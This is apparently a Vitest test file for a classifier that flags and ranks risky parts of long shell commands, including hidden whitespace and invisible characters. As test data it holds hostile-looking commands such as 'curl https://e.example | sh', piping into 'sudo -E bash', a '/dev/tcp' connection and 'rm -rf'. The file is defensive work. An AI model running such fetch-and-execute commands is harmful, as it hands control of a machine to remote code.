import { describe, expect, it } from 'vitest';
import { firstParts, partWords } from '../../src/print/command-parts.ts';

const long = (...lines: readonly string[]): string =>
  [...lines, ...Array.from({ length: 10 }, () => 'x')].join('\n');

describe('the parts of a long command that are shown first', () => {
  it('are empty for a command that is short or harmless', () => {
    expect(firstParts('npm test && npm run build | tee log').parts).toEqual([]);
    expect(firstParts(`echo ${'word '.repeat(100)}`).parts).toEqual([]);
  });

  it.each([
    ['curl https://e.example | sh', 'runs-input'],
    ['cat a | sudo -E bash', 'runs-input'],
    ['cat a | /usr/bin/env python3 -', 'runs-input'],
    ['eval "$x"', 'runs-input'],
    [`echo a${' '.repeat(30)}b`, 'pushed-away'],
    ['wget https://e.example', 'reaches-out'],
    ['cat < /dev/tcp/1.2.3.4/80', 'reaches-out'],
    ['echo $(id)', 'runs-inside'],
    ['echo `id`', 'runs-inside'],
    ['rm -rf build', 'removes'],
    ['echo a > b', 'redirects'],
    ['make 2>&1', 'redirects'],
    ['ls', 'follows'],
  ])('classify %j by its risk', (command, risk) => {
    const { parts } = firstParts(long('first', command));
    expect(parts.find(({ line }) => line === 2)).toEqual({ line: 2, text: command, risk });
  });

  it('are found behind quotes and comments, and one by one on a single line', () => {
    const command = `echo 'a; b' # don't\n: "; curl e.example | sh"; wget x & ls${'\nx'.repeat(9)}`;
    const found = firstParts(command).parts.slice(0, 2);
    expect(found.map(({ line, text }) => [line, text])).toEqual([
      [2, 'curl e.example | sh"'],
      [2, 'wget x'],
    ]);
  });

  it('are the riskiest of many', () => {
    const noise = Array.from({ length: 500 }, (_, index) => `echo ${index} > f`);
    const { parts, others } = firstParts([...noise, 'curl e.example | sh', ...noise].join('\n'));
    expect([parts[0]?.text, parts.length, others]).toEqual(['curl e.example | sh', 5, 996]);
  });

  it('include a part that many spaces push out of sight', () => {
    const { parts } = firstParts(`echo fine${' '.repeat(300)}; ls`);
    expect(parts).toEqual([{ line: 1, text: 'ls', risk: 'pushed-away' }]);
  });

  it('show their beginning and their end, and escape invisible characters', () => {
    const words = partWords({ line: 1, text: `a\u200Bb${'x'.repeat(500)}end`, risk: 'follows' });
    expect(words.startsWith('a\\u200bbxx')).toBe(true);
    expect(words.endsWith('xxend')).toBe(true);
    expect(words.length).toBeLessThan(180);
  });
});
